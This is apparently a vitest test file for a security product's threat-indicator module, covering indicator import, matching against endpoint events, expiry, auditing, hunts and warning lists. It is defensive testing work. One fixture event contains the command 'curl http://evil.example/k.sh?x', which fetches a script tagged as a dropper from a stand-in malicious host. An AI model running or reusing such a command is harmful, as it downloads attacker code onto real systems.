import { randomUUID } from 'node:crypto'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { FakeClock } from '@firebreak/shared/clock.fake.ts'
import type { Event } from '@firebreak/shared/events/event.ts'
import type { AgentId } from '@firebreak/shared/ids.ts'
import { isKnown } from '@firebreak/shared/indicators/event-values.ts'
import { MatchTable } from '@firebreak/shared/indicators/match-table.ts'
import { observableOf } from '@firebreak/shared/indicators/observable.ts'
import { ok, refuse, type Result } from '@firebreak/shared/result.ts'
import { generateSeed, signingKeyOf } from '@firebreak/shared/trust/ed25519.ts'
import { Registry } from 'prom-client'
import { Value } from 'typebox/value'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { hostRow } from '../api/api.fixture.ts'
import { createAuditLog } from '../audit/audit-log.ts'
import { openStateStore } from '../store/state/sqlite-store.ts'
import type { StateStore } from '../store/state/state-store.ts'
import type { Statement, StoredEvent } from '../store/telemetry/telemetry-store.ts'
import type { Indicators, NewIndicator } from './index.ts'
import { createIndicators } from './indicators.ts'
import { IndicatorsConfig } from './indicators-config.ts'

const HOST = 'aaaabbbbccccddddeeeeffff22' as AgentId
const NOW = Date.UTC(2026, 10, 24, 12)

let dir: string
let state: StateStore
let clock: FakeClock
let memory: SharedArrayBuffer[]
let room: Indicators
let select: (statement: Statement) => Promise<Result<never[], 'too_long'>>

async function opened(config: Partial<IndicatorsConfig> = {}): Promise<Indicators> {
  const note = () => {}
  const indicators = createIndicators(
    {
      state,
      telemetry: { select: async (statement) => await select(statement) },
      search: { events: async () => ok([]) },
      audit: createAuditLog(state, clock, signingKeyOf(generateSeed())),
      clock,
      log: { info: note, warn: note, error: note },
      metrics: new Registry(),
      watch: (shared) => memory.push(shared),
      raise: async () => {},
    },
    { ...(Value.Default(IndicatorsConfig, {}) as IndicatorsConfig), ...config },
  )
  await indicators.start()
  return indicators
}

beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fb-indicators-'))
  clock = new FakeClock(NOW)
  state = await openStateStore(join(dir, 'state.db'))
  memory = []
  select = async () => ok([])
  room = await opened()
})
afterEach(async () => {
  await room.stop()
  await state.close()
  rmSync(dir, { recursive: true, force: true })
})

function indicator(written: string, more: Partial<NewIndicator> = {}): NewIndicator {
  const found = observableOf(written)
  if (!found.ok) throw new Error(found.why)
  return { ...found.value, ...more }
}
async function take(source: string, indicators: readonly NewIndicator[], replace = false) {
  const importId = randomUUID()
  const taken = await room.take({ source, importId, indicators, patterns: [] })
  if (!taken.ok) throw new Error(taken.why)
  return await room.complete({ source, importId, replace, revoked: [] }, 'user:test')
}
const seen = (more: Partial<Event>, seq = 1): StoredEvent => ({
  agentId: HOST,
  epoch: 'e',
  class: 'network',
  seq,
  event: {
    '@timestamp': '2026-11-24T12:00:00.000Z',
    event: { category: ['network'], type: ['start'], action: 'x' },
    ...more,
  },
})
const levels = async (event: StoredEvent) => (await room.signalsOf([event])).map(({ level }) => level)

describe('an indicator', () => {
  it('makes a signal that says which value, where, from whom and how sure, without its letters being the same', async () => {
    await take('abuse-list', [
      indicator('hxxp://EVIL[.]example/k.sh', { confidence: 90, tlp: 'amber', description: 'dropper' }),
    ])
    await take('other', [indicator('evil.example', { confidence: 40 })])
    const [first, second] = await room.signalsOf([
      seen({ process: { command_line: 'curl http://evil.example/k.sh?x' } }),
    ])
    expect(first).toMatchObject({
      agentId: HOST,
      detector: 'indicator',
      level: 'high',
      ruleTitle: 'Known malicious URL http://evil.example/k.sh (abuse-list)',
      eventId: `${HOST}:e:network:1`,
      tactics: ['command-and-control'],
      event: {
        message: expect.stringContaining('process.command_line'),
        threat: {
          indicator: { confidence: 90, provider: ['abuse-list'], marking: { tlp: 'amber' }, found_in_the_past: false },
        },
      },
    })
    expect(second).toMatchObject({ level: 'low', ruleTitle: 'Known malicious domain evil.example (other)' })
  })

  it('is known to the readers as soon as it was taken, and after more than the memory was made for', async () => {
    const many = Array.from({ length: 3_000 }, (_, n) => indicator(`h${n}.evil.example`))
    await take('list', many)
    const last = memory.at(-1)
    if (!last) throw new Error('no memory was published')
    const table = new MatchTable(last)
    expect(memory.length).toBeGreaterThan(1)
    for (const n of [0, 2_999])
      expect(isKnown(seen({ dns: { question: { name: `h${n}.evil.example` } } }).event, table)).toBe(true)
    expect(isKnown(seen({ dns: { question: { name: 'good.example' } } }).event, table)).toBe(false)
  })

  it('matches only while it is valid', async () => {
    const later = new Date(NOW + 60_000).toISOString()
    await take('list', [
      indicator('203.0.114.1', { validUntil: later }),
      indicator('203.0.114.2', { validFrom: later }),
    ])
    const [ends, begins] = [seen({ destination: { ip: '203.0.114.1' } }), seen({ destination: { ip: '203.0.114.2' } })]
    expect([await levels(ends), await levels(begins)]).toEqual([['medium'], []])
    await clock.advance(60_000)
    expect([await levels(ends), await levels(begins)]).toEqual([[], ['medium']])
  })

  it('that is over by hand matches no more, and the log says who and why', async () => {
    await take('list', [indicator('203.0.114.1')])
    const [one] = await room.list({ limit: 1 })
    const done = await room.expire(one?.n ?? 0, 'user:ana', 'our own scanner')
    expect(done).toMatchObject({ ok: true, value: { expired: true } })
    expect(await levels(seen({ destination: { ip: '203.0.114.1' } }))).toEqual([])
    const audit = await state.db
      .selectFrom('audit')
      .selectAll()
      .where('action', '=', 'indicators.indicator.expired')
      .execute()
    expect(audit).toMatchObject([{ actor: 'user:ana', detail: expect.stringContaining('our own scanner') }])
    expect(await room.expire(99_999, 'user:ana', 'x')).toMatchObject({ ok: false, code: 'not_found' })
  })

  it('that a list does not name any more is over when the list is replaced, and an empty list replaces nothing', async () => {
    await take('list', [indicator('203.0.114.1'), indicator('203.0.114.2')])
    await take('other', [indicator('203.0.114.1')])
    expect(await take('list', [indicator('203.0.114.2')], true)).toMatchObject({ value: { indicators: 1, expired: 1 } })
    expect(
      (await room.lookup('203.0.114.1')).ok && (await room.list({ limit: 9, expired: true })).map((one) => one.source),
    ).toEqual(['list'])
    expect(
      await room.complete({ source: 'list', importId: randomUUID(), replace: true, revoked: [] }, 'x'),
    ).toMatchObject({
      ok: false,
      code: 'import_empty',
    })
    expect(await levels(seen({ destination: { ip: '203.0.114.2' } }))).toEqual(['medium'])
  })

  it('is counted each time it is seen, with the signals and not without them', async () => {
    await take('list', [indicator('203.0.114.1')])
    const signals = await room.signalsOf([
      seen({ destination: { ip: '203.0.114.1' } }),
      seen({ source: { ip: '203.0.114.1' } }, 2),
    ])
    await state.write(async (tx) => await room.stored(tx, signals))
    await state
      .write(async (tx) => {
        await room.stored(tx, signals)
        throw new Error('the batch fails')
      })
      .catch(() => undefined)
    expect(await room.list({ limit: 1 })).toMatchObject([{ sightings: 2, lastSightedAt: '2026-11-24T12:00:00.000Z' }])
  })

  it('is in force again after a restart', async () => {
    await take('list', [indicator('203.0.114.0/24')])
    await room.stop()
    room = await opened()
    expect(await levels(seen({ destination: { ip: '::ffff:203.0.114.77' } }))).toEqual(['medium'])
    expect(await room.lookup('203.0.114.9')).toMatchObject({ value: { indicators: [{ value: '203.0.114.0/24' }] } })
  })

  it('is refused when there are too many or when it is not what it says', async () => {
    await room.stop()
    room = await opened({ max_indicators: 1_000 })
    const many = Array.from({ length: 1_001 }, (_, n) => indicator(`h${n}.evil.example`))
    const part = { source: 'list', importId: randomUUID(), patterns: [] }
    expect(await room.take({ ...part, indicators: many })).toMatchObject({ code: 'too_many_indicators' })
    expect(await room.take({ ...part, indicators: [{ type: 'domain', value: 'EVIL.example' }] })).toMatchObject({
      code: 'bad_indicator',
    })
    expect(await room.list({ limit: 9 })).toEqual([])
  })
})

describe('a hunt', () => {
  it('that is broken off goes on behind the last values that it looked at', async () => {
    await room.stop()
    const asked: string[] = []
    const page = Array.from({ length: 20_000 }, (_, n) => ({ value: `10.9.${n >> 8}.${n & 255}.x` }))
    let isBroken = true
    select = async ({ params }) => {
      asked.push(`${String(params?.['kind'])} ${String(params?.['after'])}`)
      if (params?.['kind'] === 'address' && params['after'] === '') return ok(page as never)
      return isBroken ? refuse('too_long', 'the store is slow') : ok([])
    }
    room = await opened({ hunt_delay_s: 0 })
    await take('list', [indicator('203.0.114.1')])
    await expect.poll(() => asked.length).toBe(2)
    await room.stop()
    isBroken = false
    room = await opened({ hunt_delay_s: 0 })
    await expect.poll(async () => (await room.hunts(1))[0]?.state).toBe('done')
    const last = page.at(-1)?.value
    expect(asked).toEqual(['address ', `address ${String(last)}`, `address ${String(last)}`, 'domain ', 'hash '])
    expect(await room.hunts(1)).toMatchObject([{ lookedAt: 20_000, hits: 0 }])
  })
})

describe('a warning list', () => {
  it.each([
    ['10.1.2.3', { destination: { ip: '10.1.2.3' } }, 'private addresses'],
    ['8.8.8.8', { destination: { ip: '8.8.8.8' } }, 'public resolvers'],
    ['8.8.8.0/24', { destination: { ip: '8.8.8.9' } }, 'public resolvers'],
    ['github.com', { dns: { question: { name: 'api.github.com' } } }, 'top sites'],
    ['192.0.2.10', { destination: { ip: '192.0.2.10' } }, 'addresses of the fleet'],
    ['192.0.2.0/24', { destination: { ip: '192.0.2.99' } }, 'addresses of the fleet'],
    ['web-1.corp.example', { dns: { question: { name: 'web-1.corp.example' } } }, 'names of the fleet'],
    [
      'd41d8cd98f00b204e9800998ecf8427e',
      { file: { path: '/x', hash: { md5: 'd41d8cd98f00b204e9800998ecf8427e' } } },
      'empty file',
    ],
  ])('keeps %s and never lets it raise more than an informational alert', async (written, event, list) => {
    await state.write(async (tx) => {
      await tx.insertInto('hosts').values(hostRow(HOST, 'web-1.corp.example')).execute()
    })
    await take('list', [indicator(written, { confidence: 100 })])
    const [signal] = await room.signalsOf([seen(event)])
    expect(signal).toMatchObject({ level: 'informational', event: { threat: { indicator: { warning_list: list } } } })
    expect(await room.list({ limit: 1 })).toMatchObject([{ warning: list }])
  })

  it('covers no more than it says', async () => {
    await take('list', [
      indicator('evil.github.io', { confidence: 100 }),
      indicator('http://github.com/evil/x', { confidence: 100 }),
    ])
    expect(await levels(seen({ dns: { question: { name: 'evil.github.io' } } }))).toEqual(['high'])
    expect(await levels(seen({ url: { full: 'http://github.com/evil/x' } }))).toEqual(['high'])
  })
})
